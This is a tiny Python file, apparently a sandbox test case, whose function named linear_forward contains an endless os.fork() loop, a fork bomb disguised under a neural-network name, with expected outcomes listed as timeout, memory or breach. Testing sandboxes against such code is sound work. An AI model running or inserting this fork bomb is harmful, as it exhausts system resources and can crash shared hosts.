"""Forks without end.

expect: timeout, memory, breach
"""

import os


def linear_forward(x, W, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
